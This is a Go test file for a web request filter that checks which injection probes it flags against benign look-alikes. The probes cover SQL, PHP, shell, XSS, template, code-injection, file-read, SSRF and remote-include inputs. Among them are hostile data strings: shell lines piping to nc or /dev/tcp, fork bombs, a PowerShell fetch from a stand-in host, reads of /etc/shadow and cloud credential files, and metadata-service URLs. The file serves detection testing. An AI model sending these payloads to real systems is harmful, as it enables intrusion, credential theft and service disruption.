package filter

import "testing"

// probeCases: call probes, catalogue names and SQL statement shapes,
// built from each grammar's parts, with look-alikes that share their
// words.
func probeCases() []langCase {
	var out []langCase
	// SQL builtins, unclosed or with SQL arguments, in query and form.
	for _, f := range []string{"concat", "Group_Concat", "unhex", "IFNULL", "substring", "ascii", "coalesce", "current_user", "xmltype", "pg_sleep"} {
		for _, args := range []string{"(", " (", "('a',1)", "(0x41)", "(1,2,3)", "(@@version)", "(now())"} {
			out = append(out, langCase{KindQueryValue, "q", f + args, "sqli-call-probe"}, langCase{KindBodyValue, "v", f + args + "\n", "sqli-call-probe"})
		}
	}
	for _, p := range []string{"user(", "database( )", "version()", "char(65,66)", "hex('x')", ", find_in_set('3', cat)", ",concat(a,0x3a,b)", "div(7,-3)",
		"benchmark(9 9,md5(now()))", "information_schema", "PG_CATALOG", "mysql.user", "MSysObjects", "tempdb", "sqlite_master"} {
		out = append(out, langCase{KindQueryValue, "table", p, "sqli-call-probe"})
	}
	for _, b := range []string{"user(s)", "version(s)", "Insert (optional)", "char (max)", "Database (primary)", "trim(left)", "concat", "user", "information", "schema",
		"catalog", "f(x)", "md5 hash", "substring matching", "price (USD)", "call me (maybe)", "mid (2019)", "Version (beta)", "tempdb is a system database in SQL Server"} {
		out = append(out, langCase{KindQueryValue, "q", b, ""}, langCase{KindBodyValue, "text", b, ""})
	}
	// PHP builtins called alone, also as the last path segment.
	for _, f := range []string{"print_r", "strrev", "var_dump", "file_exists", "intval", "base64_decode", "curl_init", "strip_tags", "getenv", "fopen"} {
		for _, args := range []string{"()", "( )", "($x)", "('a')", "(", "(1)[0]", "(\"/etc\");"} {
			out = append(out, langCase{KindQueryValue, "q", f + args, "php-probe"})
		}
	}
	for _, p := range []string{"/api/unpack()", "/x/print_r($a)", "/y/get_defined_vars()"} {
		out = append(out, langCase{KindPath, "", p, "php-probe"})
	}
	for _, p := range []string{"auto_prepend_file=/tmp/x", "allow_url_include = On", "opcache.enable_cli=1", "memory_limit = 1G", "disable_functions=", "mbstring.func_overload=7", "session.save_path=/var/tmp"} {
		out = append(out, langCase{KindBodyValue, "cfg", p, "php-probe"})
	}
	for _, b := range []string{"/api/items(1)", "/odata/Products(5)", "/docs/print_r", "file (pdf)", "system (metric)", "System(s)", "unpack (the box)", "memory limit = 1G",
		"limit=10", "session.timeout=30", "precision=2", "error=none", "mode = fast", "disable_functions"} {
		out = append(out, langCase{KindQueryValue, "q", b, ""}, langCase{KindPath, "", "/p/" + b, ""})
	}
	// SQL statements and clauses at the start of a value.
	for _, p := range []string{"CREATE TABLE t1 (a int)", "create function f() returns int", "Create View v as select 1", "/create table accounts", "ALTER TABLE users ADD admin int",
		"alter table `t` drop column x", "DECLARE @q varchar(99)", "declare/**/@v", "exec (@cmd)", "EXEC master.dbo.xp_dirtree", "EXECUTE IMMEDIATE 'drop table x'",
		"case when 1=1 then 1 else 0 end", "CASE WHEN a THEN b", "if(1=1,sleep(1),0)", ") like (", "7 AS \"x\" FROM t", "select a group by b having count(*)>1",
		"SELECT * FROM `m` GROUP BY `c` HAVING `c` = 2", "'a'<>'b", "\"x\" != \"y", "1.e(user)", "2.e.tables", ";truncate table logs", "';select 1", "; replace(a) values (1)",
		"` AS `uid` FROM", "x` as `y` from t", "select char(", "SELECT(user(", "select 1,2,version(", "select if(1", "select pg_sleep"} {
		out = append(out, langCase{KindQueryValue, "q", p, "sqli-fragment"}, langCase{KindBodyValue, "v", p, "sqli-fragment"})
	}
	for _, b := range []string{"Create table of contents", "create a user account", "alter table layout please", "Declare your income", "declare @bob the winner",
		"Execute the plan", "In case when it rains then stay", "case when", "If (you) can", "I (really) like (cats)", "known as \"Bob\" from Texas", "Group by region",
		"select a color", "Select the best option (recommended)", "It's a 'test' case", "version 1.2.3", "1.e4 notation", "; see below", "'quoted' text; more",
		"select your plan, then group by team having fun", "He said \"hi\" as \"hello\" from afar", "Tables (and chairs)", "truncate the text", "\"a\" != \"a\" // false", "'a' != 'b'"} {
		out = append(out, langCase{KindQueryValue, "q", b, ""}, langCase{KindBodyValue, "text", b, ""})
	}
	// Shell: info command then a separator, here-strings, /tcp/ through a
	// variable, self-piping functions, ~+ and ~-, cd after a separator,
	// admin tools and compressed readers as the whole command line or
	// after a leading separator or a harmless "time;".
	for _, p := range []string{"whoami;x", "id|nc h 1", "uname -a&&echo", "hostname; ls", "python3<<<'print(1)'", ";bc<<<2*3", "x=$t/udp/10.0.0.9/53", "a=/dev;cat</dev/null>${a}/tcp/h.example/4444",
		"bomb() { bomb | bomb & } bomb", "f(){ f|f& };f", "~+", "~-", "~+2", "|cd /;cd var;ls", "&& cd /etc; cat shadow",
		"ansible-playbook -i hosts play.yml", "chef-client -z", "knife ssh -x root 'name:*' uptime", "cscli decisions list", "visudo", "time; cscli bouncers list", "true; knife status",
		"zcat /var/log/auth.log.1.gz", "visudo\n", "alias -p ll=rm", `IF "a b" == "a b" echo x`, "if errorlevel 2 if not errorlevel 3 echo two", "gunzip -c /var/log/syslog.2.gz", "xzcat /etc/backup.xz", "bzcat /root/db.bz2", ";regedit /s x.reg", "&bcdedit /set safeboot", "; iwr https://h.example/a.ps1", ">/tmp/x", ">> /dev/shm/.k",
		"nmap -sV 10.0.0.1", "masscan -p80 10.0.0.0/8", "nmap -p 22,80 -Pn db.internal.example"} {
		out = append(out, langCase{KindQueryValue, "cmd", p, ""}, langCase{KindBodyValue, "code", p, ""})
		out[len(out)-1].rule, out[len(out)-2].rule = "rce", "rce"
	}
	for _, b := range []string{"whoami (the command) prints your name", "id card; passport", "id: 42; name: x", "~ 5 minutes", "~/projects", "~+ approx", "a << b", "x <<< y is a diff marker",
		"install ansible, then run playbooks", "chef; cook", "Visudo edits sudoers safely", "gunzip the file", "zcat", "time: 5pm; place: hall", "f() { return a && b } g", "cd src; make", "an alias is a=b", "if (a == b) return", "knife cuts the bread", "ansible is great", "cscli is the CrowdSec CLI", "> /tmp is full", "->/tmp/x",
		"nmap tutorial for beginners", "how to use nmap -sV", "nmap"} {
		out = append(out, langCase{KindQueryValue, "q", b, ""}, langCase{KindBodyValue, "text", b, ""})
	}
	// JavaScript probes: timers, codecs and dialogs called alone; DOM
	// expressions as the whole value; CSS url( of a script URI.
	for _, p := range []string{"setTimeout(x, 10)", "setInterval(", "atob('YQ==')", "btoa()", "unescape('%61')", "window.location", "document.cookie", "(document).domain",
		"document.getElementById('a').innerHTML='<b>x</b>'", "document.body.appendChild(document.createElement('img'))", "document.forms[0].action='//h.example'",
		"window['al'+'ert']", "(top)[\"document\"]", "self[\"\\x61lert\"]"} {
		out = append(out, langCase{KindQueryValue, "q", p, "xss-js-sink"}, langCase{KindBodyValue, "v", p, "xss-js-sink"})
	}
	for _, p := range []string{"color:url(javascript", "a:url( 'vbscript:x')"} {
		out = append(out, langCase{KindQueryValue, "style", p, "xss-html-injection"})
	}
	for _, b := range []string{"the document.cookie API", "Window (wood)", "Document (PDF)", "windows 11", "topology (star)", "self (help)", "top.example.com", "document.pdf",
		"alert (level 3)", "prompt (optional)", "document.getElementById('x').textContent = 'Hi';", "document.querySelector('#t').innerHTML = 'plain text';", "window.location in react router docs", "url(https://cdn.example/bg.png)", "font: url(a.woff)", "parent.child"} {
		out = append(out, langCase{KindQueryValue, "q", b, ""}, langCase{KindBodyValue, "text", b, ""})
	}
	// Template conditionals around a literal; Node and Ruby code.
	for _, p := range []string{"{% if 1 %}7{% endif %}", "{%- if x -%}yes{%- endif -%}"} {
		out = append(out, langCase{KindQueryValue, "name", p, "ssti-probe"})
	}
	for _, p := range []string{"console.log(1)", "console.table(process)", "process[mainModule]", "while(this);", "while(new Date){}", "while((true))"} {
		out = append(out, langCase{KindQueryValue, "q", p, "node-code-injection"})
	}
	for _, p := range []string{"Process.spawn('id')", "Kernel.exec('ls')", "IO.popen('uname')", "Open3.capture2('id')"} {
		out = append(out, langCase{KindQueryValue, "q", p, "rce-code-injection"})
	}
	for _, p := range []string{"java.Runtime", "java.ProcessBuilder"} {
		out = append(out, langCase{KindQueryValue, "t", p, "java-class-name"}, langCase{KindCookieValue, "c", p, "java-class-name"})
	}
	out = append(out, langCase{KindQueryValue, "src", "http://2001:db8:1::9/s.php", "rfi-script-url"})
	for _, b := range []string{"java.runtime.version", "Java Runtime", "java.lang"} {
		out = append(out, langCase{KindQueryValue, "q", b, ""})
	}
	for _, b := range []string{"console.log in production is slow", "while (this) is fine, check it", "Spawn process (docs)", "kernel execution time"} {
		out = append(out, langCase{KindQueryValue, "q", b, ""})
	}
	// Files that prove a read; metadata services; remote include
	// through a path configuration variable.
	for _, p := range []string{"/proc/version", "../../proc/cpuinfo", "/sys/class/net", "/sys/kernel/", "~/.docker/config.json", "/root/.kube/config", "../../.mysql_history"} {
		out = append(out, langCase{KindQueryValue, "file", p, "lfi-sensitive-file"})
	}
	// A file-reading command and the file as the whole value; credential
	// files of cloud and database clients.
	for _, p := range []string{"cat /proc/net/tcp", "tail /proc/sys/kernel/randomize_va_space", "cat /etc/apache2/apache2.conf", "/root/.aws/credentials", "../../.git-credentials", "/home/app/.pgpass"} {
		out = append(out, langCase{KindUserAgent, "User-Agent", p, "lfi-sensitive-file"})
	}
	for _, b := range []string{"see /etc/apache2/apache2.conf", "edit /etc/apache2/apache2.conf then reload", "configure .aws credentials", "proc sys kernel", "more info: /proc/net/tcp docs"} {
		out = append(out, langCase{KindQueryValue, "q", b, ""})
	}
	for _, p := range []string{"http://metadata.packet.net/metadata", "http://192.0.0.192/latest/"} {
		out = append(out, langCase{KindQueryValue, "u", p, "ssrf-cloud-metadata"})
	}
	for _, nm := range []string{"mosConfig_absolute_path", "_CONF[path]", "include_path", "base_dir", "lib_path"} {
		out = append(out, langCase{KindQueryValue, nm, "https://h.example/x", "rfi-script-url"}, langCase{KindQueryValue, nm, "ftp://203.0.113.9", "rfi-script-url"})
	}
	for _, b := range []string{"/sys/admin", "systems class", "version: proc 2", "/proc", "docker config", "parse /proc/cpuinfo for flags", "reads `/sys/class/net` to list NICs", "history", "/docs/history"} {
		out = append(out, langCase{KindQueryValue, "file", b, ""})
	}
	for _, nm := range []string{"image_path", "avatar_dir", "return_path", "path"} {
		out = append(out, langCase{KindQueryValue, nm, "https://cdn.example/a/b.png", ""})
	}
	out = append(out, langCase{KindQueryValue, "q", "https://h.example/x", ""}, langCase{KindQueryValue, "pathname", "https://h.example/x", ""})
	return out
}

func TestProbeGrammars(t *testing.T) { checkGrammarCases(t, probeCases()) }
